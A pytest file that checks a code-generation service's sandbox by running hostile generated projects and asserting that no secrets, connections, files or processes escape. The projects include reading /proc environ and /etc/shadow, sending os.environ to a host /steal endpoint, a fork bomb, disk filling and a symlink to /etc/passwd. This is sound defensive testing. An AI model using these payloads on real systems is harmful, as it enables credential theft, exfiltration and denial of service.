"""Hostile projects: each project's own tests attack the host from inside the sandbox, and get nothing out.

All attacks run through the whole service at once, as generations of one
user. Afterwards: no secret in any API answer, no connection reached the
host, no file was written outside, no process is left, the server is healthy
and an ordinary generation still completes with its tests passing.
"""

from __future__ import annotations

import asyncio
import os
import re
import textwrap
import uuid
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp import web

from codegen.generators.base import GeneratedFile, GenerationResult
from codegen.lifecycle import Mode, Stage
from tests.helpers import ApiClient
from tests.sandbox_helpers import processes_with

pytestmark = pytest.mark.slow

MARKER = f"codegen-hostile-{uuid.uuid4().hex[:10]}"
TIMEOUT_SECONDS = 8
WORKDIR_MB = 64
PYTEST_INI = "[pytest]\ntestpaths = tests\n"
PROMPT_PREFIX = "A hostile project: "


def attack(body: str) -> dict[str, str]:
    """A project whose one test runs ``body`` (indented into a test function)."""
    code = "import os, socket, subprocess, sys, time, urllib.parse, urllib.request\n\n\ndef test_attack():\n"
    return {"pytest.ini": PYTEST_INI, "tests/test_attack.py": code + textwrap.indent(textwrap.dedent(body), "    ")}


def projects(host: dict[str, Any]) -> dict[str, dict[str, str]]:
    data_dir, http_port, socket_dirs = host["data_dir"], host["http_port"], host["socket_dirs"]
    return {
        "secrets": attack(f"""
            found = []
            for entry in os.listdir("/proc"):
                for name in ("environ", "cmdline"):
                    try:
                        found.append(open(f"/proc/{{entry}}/{{name}}", "rb").read().decode(errors="replace"))
                    except OSError as exc:
                        found.append(f"{{entry}}/{{name}}: {{exc}}")
            for path in ({str(data_dir / "jwt-secret")!r}, "/proc/self/environ", "/etc/shadow"):
                try:
                    found.append(open(path).read())
                except OSError as exc:
                    found.append(f"{{path}}: {{exc}}")
            print("\\n".join(found))
            assert False, "show what was found"
        """),
        "network": attack(f"""
            results = []
            for host, port in (("127.0.0.1", 5432), ("127.0.0.1", {http_port}), ("8.8.8.8", 53)):
                try:
                    socket.create_connection((host, port), timeout=2).close()
                    results.append(f"CONNECTED {{host}}:{{port}}")
                except OSError as exc:
                    results.append(f"refused {{host}}:{{port}} {{exc}}")
            for directory in {socket_dirs!r}:
                try:
                    unix = socket.socket(socket.AF_UNIX)
                    unix.connect(directory + "/.s.PGSQL.5432")
                    results.append(f"CONNECTED {{directory}}")
                except OSError as exc:
                    results.append(f"refused {{directory}} {{exc}}")
            try:
                urllib.request.urlopen("http://127.0.0.1:{http_port}/steal?what=" + urllib.parse.quote(str(dict(os.environ))), timeout=2)
                results.append("POSTED")
            except OSError as exc:
                results.append(f"no http {{exc}}")
            print(results)
            assert not any(r.startswith(("CONNECTED", "POSTED")) for r in results), results
        """),
        "write-outside": attack(f"""
            for path in ("/tmp/{MARKER}", {str(data_dir / MARKER)!r}, "/usr/{MARKER}", "/{MARKER}"):
                try:
                    open(path, "w").write("pwned")
                except OSError as exc:
                    print(path, exc)
        """),
        "fork-bomb": attack("""
            children = 0
            try:
                while True:
                    if os.fork() == 0:
                        while True:
                            time.sleep(1)
                    children += 1
            except OSError as exc:
                print("fork refused after", children, exc)
            assert children < 1000
        """),
        "daemon": attack(f"""
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"])
                os._exit(0)
            time.sleep(0.5)
        """),
        "fill-disk": attack("""
            written = 0
            try:
                with open("fill", "wb") as out:
                    while True:
                        out.write(b"x" * 1024 * 1024)
                        out.flush()
                        written += 1
            except OSError as exc:
                print(f"wrote {written} MB before: {exc}")
            assert False, f"wrote {written} MB"
        """),
        "allocate-10gb": attack("""
            block = bytearray(10 * 1024 ** 3)
            assert block
        """),
        "loop-forever": attack("""
            while True:
                pass
        """),
        "print-100mb": attack("""
            line = "x" * 1023 + "\\n"
            for _ in range(100 * 1024):
                sys.stdout.write(line)
            assert False, "show the output"
        """),
        "symlink": attack("""
            os.symlink("/etc/passwd", "passwd-link")
            print(open("passwd-link").read())
            assert False, "show the file"
        """),
        "path-clash": {"x.py": "X = 1\n", "x.py/y.py": "Y = 2\n", "tests/test_x.py": "def test_x():\n    pass\n"},
    }


class HostileGenerator:
    name = "hostile"

    def __init__(self, by_prompt: dict[str, dict[str, str]]) -> None:
        self.by_prompt = by_prompt

    async def generate(self, request: Any, report: Any) -> GenerationResult:
        await report(Stage.PLANNING if request.mode == Mode.PHASED else Stage.GENERATING, 0.1, "Writing")
        files = self.by_prompt[request.prompt.removeprefix(PROMPT_PREFIX)]
        return GenerationResult(files=[GeneratedFile(path, content) for path, content in files.items()])


@pytest.fixture
async def host_http_server():
    """An HTTP server on the host that a sandboxed project must not reach."""
    hits: list[str] = []

    async def record(request: web.Request) -> web.Response:
        hits.append(request.path_qs)
        return web.Response(text="ok")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", record)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield runner.addresses[0][1], hits
    finally:
        await runner.cleanup()


@pytest.mark.timeout(300)
async def test_hostile_projects_get_nothing_out(make_server, http, sandbox_cache_dir, settings, admin_dsn,
                                               host_http_server):
    http_port, hits = host_http_server
    data_dir = settings.data_dir.resolve()
    socket_dirs = ["/run/postgresql", "/var/run/postgresql", "/tmp"]
    if "host=" in admin_dsn:
        socket_dirs.append(admin_dsn.split("host=", 1)[1].split("&", 1)[0])
    attacks = projects({"data_dir": data_dir, "http_port": http_port, "socket_dirs": socket_dirs})
    api_key = "sk-hostile-" + uuid.uuid4().hex
    server = await make_server(
        generator=HostileGenerator({name: files for name, files in attacks.items()} | {"ordinary": ORDINARY}),
        validate_mode="tests", sandbox_cache_dir=sandbox_cache_dir, validate_timeout_seconds=TIMEOUT_SECONDS,
        sandbox_workdir_mb=WORKDIR_MB, worker_concurrency=len(attacks) + 1, generate_rate_limit=0,
        jwt_secret=None, llm_api_key=api_key,
    )
    jwt_secret = (data_dir / "jwt-secret").read_text().strip()
    api = ApiClient(http, server.url)
    await api.sign_up()
    started = {name: (await api.generate(prompt=PROMPT_PREFIX + name))["id"] for name in attacks}
    finals = dict(zip(started, await asyncio.gather(*(api.wait_for(g, timeout=240) for g in started.values())),
                      strict=True))

    # nothing came out: no secret in any answer about any of them
    answers = []
    for name, generation_id in started.items():
        answers.append(orjson.dumps(finals[name]).decode())
        answers.append(orjson.dumps((await api.call("GET", f"/api/generations/{generation_id}/files")).body).decode())
    everything = "\n".join(answers)
    for secret in (jwt_secret, api_key, settings.database_url):
        assert secret not in everything
    # the attacks' own code names host paths; what the runs printed must not
    outputs = "\n".join(orjson.dumps(final["tests"]).decode() for final in finals.values())
    host_passwd_root = Path("/etc/passwd").read_text().splitlines()[0]
    for host_fact in (str(data_dir / "jwt-secret") + "\n", host_passwd_root, "codegen-sandbox-", str(sandbox_cache_dir)):
        assert host_fact not in outputs

    # nothing reached the host: no connection, no file, no process
    assert hits == []
    assert not Path("/tmp", MARKER).exists() and not (data_dir / MARKER).exists()
    assert processes_with(MARKER) == []

    tests = {name: final["tests"] for name, final in finals.items()}
    assert all(final["status"] == "completed" for name, final in finals.items() if name != "path-clash"), finals
    secrets = tests["secrets"]["output"]
    assert tests["secrets"]["status"] == "failed" and "HOME=/tmp" in secrets and "CODEGEN_" not in secrets, secrets
    assert tests["network"]["status"] == "passed", tests["network"]["output"]
    assert tests["write-outside"]["status"] == "passed", tests["write-outside"]["output"]
    assert tests["fork-bomb"]["status"] == "passed", tests["fork-bomb"]["output"]
    assert tests["daemon"]["status"] == "passed", tests["daemon"]["output"]
    fill = tests["fill-disk"]
    assert fill["status"] == "failed" and "No space left on device" in fill["output"], fill["output"]
    written_mb = int(re.search(r"wrote (\d+) MB before", fill["output"]).group(1))
    assert written_mb <= WORKDIR_MB
    assert tests["allocate-10gb"]["status"] == "failed" and "MemoryError" in tests["allocate-10gb"]["output"]
    assert tests["loop-forever"]["status"] == "error"
    assert tests["loop-forever"]["reason"] == f"the tests did not finish within {TIMEOUT_SECONDS} s"
    printed = tests["print-100mb"]
    assert printed["status"] == "failed" and len(printed["output"]) <= server.settings.sandbox_output_chars
    assert "sandbox:x:65534" in tests["symlink"]["output"]
    clash = finals["path-clash"]
    clash_text = clash["error_message"] or clash["tests"]["reason"]
    assert "x.py" in clash_text and "clash" in clash_text, clash

    # the server is healthy and an ordinary generation still completes with its tests
    health = await api.call("GET", "/api/health")
    assert health.status == 200 and health.body["database"] == "ok"
    ordinary = await api.wait_for((await api.generate(prompt=PROMPT_PREFIX + "ordinary"))["id"], timeout=120)
    assert ordinary["status"] == "completed" and ordinary["tests"]["status"] == "passed", ordinary["tests"]
    # every run's cgroup is removed (named by the pid of the server, this process)
    assert [name for name in sandbox_cgroups() if name.startswith(f"{os.getpid()}-")] == []


def sandbox_cgroups() -> set[str]:
    parent = Path("/sys/fs/cgroup/pids/codegen-sandbox")
    return {p.name for p in parent.iterdir() if p.is_dir()} if parent.exists() else set()


ORDINARY = {
    "pytest.ini": PYTEST_INI,
    "calc.py": "def add(a, b):\n    return a + b\n",
    "tests/test_calc.py": "import sys\nsys.path.insert(0, '.')\nfrom calc import add\n\n\ndef test_add():\n"
                          "    assert add(2, 3) == 5\n",
}
